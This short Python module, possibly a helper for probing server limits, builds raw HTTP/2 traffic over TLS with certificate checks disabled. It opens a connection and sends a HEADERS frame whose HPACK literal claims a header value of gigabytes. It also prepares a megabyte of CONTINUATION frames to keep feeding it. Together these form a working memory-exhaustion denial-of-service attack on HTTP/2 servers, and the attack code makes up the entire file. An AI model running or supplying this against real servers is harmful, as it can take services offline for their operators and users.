"""HTTP/2 as bytes, of a client with TLS that proves nothing."""

from __future__ import annotations

import socket
import ssl
import struct

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _SETTINGS, _CONTINUATION = 1, 4, 9
_SECONDS = 10.0


def endless_headers(address: str) -> socket.socket:
    """Returns a connection on which a call's header has begun whose value has gigabytes.

    Args:
        address: `HOST:PORT`.
    """
    host, _, port = address.rpartition(":")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    line = context.wrap_socket(socket.create_connection((host, int(port)), _SECONDS))
    literal = b"\0\1a\x7f\xff\xff\xff\x7f"  # HPACK: the name "a", and the length of its value
    line.sendall(_PREFACE + _frame(_SETTINGS, 0, b"") + _frame(_HEADERS, 1, literal))
    return line


def _frame(kind: int, stream: int, body: bytes) -> bytes:
    return struct.pack(">I", len(body))[1:] + bytes([kind, 0]) + struct.pack(">I", stream) + body


CONTINUATIONS = 64 * _frame(_CONTINUATION, 1, bytes(16384))
"""1 MiB of the value."""
